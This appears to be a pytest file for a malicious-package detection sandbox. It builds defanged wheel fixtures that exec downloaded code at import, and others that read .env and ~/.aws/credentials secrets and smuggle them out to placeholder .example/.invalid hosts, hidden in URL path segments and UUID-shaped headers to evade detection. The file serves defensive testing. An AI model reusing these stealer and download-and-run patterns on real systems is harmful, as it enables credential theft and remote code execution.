"""The bait second stage in the real sandbox: every request the sinkhole answers gets a
Python/sh polyglot that only looks for a random per-run path. A downloader that runs
its answer (``exec``/``eval`` of an HTTPS download, an ordinary-looking URL the
accounting would call plain) is caught by PS013; a library that reads the project's
``.env`` and downloads a data file at import, and never runs the answer, is clean.

Fixtures are defanged replicas built here: ``*.example``/``*.invalid`` names only, run
only inside the sandbox, randomised (names, paths, the way the answer is run).
"""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import Phase, Report, Severity, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")

WORDS = ["cdn", "api", "data", "updates", "static", "assets", "files", "mirror"]


def _host(r: Randomised) -> str:
    tld = r.rng.choice(["example", "invalid"])
    return f"{r.rng.choice(WORDS)}.{r.rng.choice(WORDS)}{r.rng.randrange(10)}.{tld}"


def _vet(tmp_path: Path, name: str, src: str) -> tuple[Report, dict[str, Any]]:
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    _code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
    assert m, imp.output_tail
    return report, json.loads(m.group(1))


def _downloader(url: str, run: str) -> str:
    """A package that downloads *url* at import into ``data`` and runs it with *run*."""
    return textwrap.dedent(f"""\
        import base64, json, zlib, urllib.request
        facts = {{}}
        try:
            data = urllib.request.urlopen({url!r}, timeout=10).read()
            facts["bytes"] = len(data)
            {run}
            facts["ran"] = True
        except Exception as exc:
            facts["ran"] = type(exc).__name__
        print("FACTS " + json.dumps(facts))
        """)


def test_a_downloader_that_runs_its_answer_is_malicious(tmp_path: Path) -> None:
    r = Randomised()
    host = _host(r)
    url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['update.txt', 'latest', 'config'])}"
    src = _downloader(url, r.rng.choice(["exec(data, {})", "eval(data.decode())"]))
    report, facts = _vet(tmp_path, r.name("dl"), src)
    assert facts["ran"] is True and facts["bytes"] > 0, facts
    net = report.network
    assert net is not None and net.stage.startswith("/var/tmp/.")
    conn = next(c for c in net.connections if c.host == host)
    assert conn.http and conn.http[0].staged
    ps013 = next(f for f in report.findings if f.rule_id == "PS013")
    assert ps013.severity is Severity.HIGH and ps013.phase is Phase.IMPORT
    assert any(e.path == net.stage for e in ps013.evidence)
    assert report.verdict is Verdict.MALICIOUS


def test_a_library_reading_env_and_downloading_data_is_clean(tmp_path: Path) -> None:
    r = Randomised()
    host = _host(r)
    url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['prices.json', 'models.json', 'index.json'])}"
    src = textwrap.dedent(f"""\
        import json, os, urllib.request
        facts = {{}}
        try:  # what python-dotenv's load_dotenv() does from the working directory
            facts["env"] = len(open(os.path.expanduser("~/project/.env")).read())
        except OSError as exc:
            facts["env"] = repr(exc)
        try:
            data = urllib.request.urlopen({url!r}, timeout=10).read()
            facts["bytes"] = len(data)
            json.loads(data)
        except Exception as exc:
            facts["parsed"] = type(exc).__name__
        print("FACTS " + json.dumps(facts))
        """)
    report, facts = _vet(tmp_path, r.name("lib"), src)
    assert isinstance(facts["env"], int) and facts["bytes"] > 0, facts
    net = report.network
    assert net is not None and net.stage
    assert any(c.host == host and c.http and c.http[0].staged for c in net.connections)
    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
    assert sev.get("PS002") is Severity.LOW and sev.get("PS012") is Severity.LOW, sev
    assert "PS013" not in sev
    assert report.verdict is Verdict.CLEAN, [(f.rule_id, f.severity, f.message) for f in report.findings]


def test_the_candidate_cannot_read_the_plan_that_names_the_stage(tmp_path: Path) -> None:
    """The plan (/stage/plan.json) names the bait stage's path, the planted honeytokens
    and the time-travel shift: a candidate that reads it knows its answer is bait and
    which secrets are canaries. Only the agent (root) may read it."""
    r = Randomised()
    names = r.rng.sample(["plan.json", "static.json", "probes.json"], 3)
    src = textwrap.dedent(f"""\
        import json
        facts = {{}}
        for name in {names!r}:
            try:
                with open("/stage/" + name) as fh:
                    text = fh.read()
                facts[name] = {{"bytes": len(text), "stage": "/var/tmp/." in text,
                               "tokens": "home_files" in text}}
            except OSError as exc:
                facts[name] = type(exc).__name__
        print("FACTS " + json.dumps(facts))
        """)
    report, facts = _vet(tmp_path, r.name("peek"), src)
    net = report.network
    assert net is not None and net.stage
    leaked = [n for n, v in facts.items() if v not in ("PermissionError", "FileNotFoundError")]
    assert facts["plan.json"] == "PermissionError", facts
    assert not leaked, leaked
    assert report.verdict is not Verdict.INCOMPLETE  # the agent itself still read its plan


def test_a_downloader_that_decodes_its_answer_is_not_clean(tmp_path: Path) -> None:
    """exec(b64decode(answer)) fails on the bait and runs nothing: the run looks like a
    library that parsed a data file, but its sources match the static decode-then-exec
    rules, so the fetch is not LOW on the bait's word."""
    r = Randomised()
    host = _host(r)
    url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['latest', 'v2', 'current'])}"
    decode = r.rng.choice(["base64.b64decode(data)", "zlib.decompress(base64.b64decode(data))"])
    src = _downloader(url, f"exec({decode})")
    report, facts = _vet(tmp_path, r.name("dec"), src)
    assert facts["bytes"] > 0 and facts["ran"] is not True, facts
    assert "PS013" not in {f.rule_id for f in report.findings}
    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
    assert report.verdict is Verdict.SUSPICIOUS, [(f.rule_id, f.severity, f.message) for f in report.findings]
    assert sev.get("PS002") is Severity.MEDIUM and any(f.rule_id == "PS040" for f in report.findings), sev


def test_a_secret_split_over_an_ordinary_get_is_proven(tmp_path: Path) -> None:
    """A stealer that reads .env and sends a secret's hex in short path segments and
    UUID-shaped request ids (each field passing the accounted-fetch tests) is PS010."""
    r = Randomised()
    host = _host(r)
    src = textwrap.dedent(f"""\
        import json, os, urllib.request
        facts = {{}}
        text = open(os.path.expanduser("~/project/.env")).read()
        env = dict(l.split("=", 1) for l in text.split() if "=" in l)
        hx = env["SECRET_KEY"].encode().hex()
        path = "/".join(hx[i:i + 14] for i in range(0, len(hx), 14))
        ids = [hx[i:i + 32].ljust(32, "0") for i in range(0, len(hx), 32)]
        uuid = lambda h: "-".join((h[:8], h[8:12], h[12:16], h[16:20], h[20:]))
        hdrs = {{f"X-{{n}}-Id": uuid(h) for n, h in enumerate(ids)}}
        for url in ("https://{host}/static/" + path + "/logo.svg", "https://{host}/v1/status"):
            try:
                req = urllib.request.Request(url, headers=hdrs if url.endswith("status") else {{}})
                facts[url[-6:]] = len(urllib.request.urlopen(req, timeout=10).read())
            except Exception as exc:
                facts[url[-6:]] = type(exc).__name__
        print("FACTS " + json.dumps(facts))
        """)
    report, facts = _vet(tmp_path, r.name("split"), src)
    assert all(isinstance(v, int) for v in facts.values()), facts
    net = report.network
    assert net is not None
    assert any(x.canary == "SECRET_KEY" and "joined" in x.encoding for x in net.exfiltration), (
        net.exfiltration
    )
    ps010 = next(f for f in report.findings if f.rule_id == "PS010")
    assert ps010.severity is Severity.CRITICAL and report.verdict is Verdict.MALICIOUS


def test_a_sealed_secret_in_short_path_segments_is_malicious(tmp_path: Path) -> None:
    """A stealer that reads ~/.aws/credentials, XORs it with its own key (no canary
    encoding finds it), and sends its hex cut into 15-character segments (none
    encoded-looking) in an ordinary GET to a name its resolver answered, ignoring the
    answer. Failed on main: accounted, fed the bait, every finding LOW, the run clean."""
    r = Randomised()
    host, key = _host(r), r.name("k")
    src = textwrap.dedent(f"""\
        import json, os, urllib.request
        facts = {{}}
        raw = open(os.path.expanduser("~/.aws/credentials"), "rb").read()[:80]
        blob = bytes(b ^ {key!r}.encode()[i % {len(key)}] for i, b in enumerate(raw)).hex()
        path = "/".join(blob[i:i + 15] for i in range(0, len(blob), 15))
        try:
            facts["bytes"] = len(urllib.request.urlopen("http://{host}/assets/" + path, timeout=10).read())
        except Exception as exc:
            facts["bytes"] = type(exc).__name__
        print("FACTS " + json.dumps(facts))
        """)
    report, facts = _vet(tmp_path, r.name("sync"), src)
    assert isinstance(facts["bytes"], int), facts
    net = report.network
    assert net is not None and not net.exfiltration, net.exfiltration  # nothing proves it
    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
    assert sev.get("PS001") is Severity.HIGH and sev.get("PS002") is Severity.HIGH, sev
    assert report.verdict is Verdict.MALICIOUS, [(f.rule_id, f.severity, f.message) for f in report.findings]
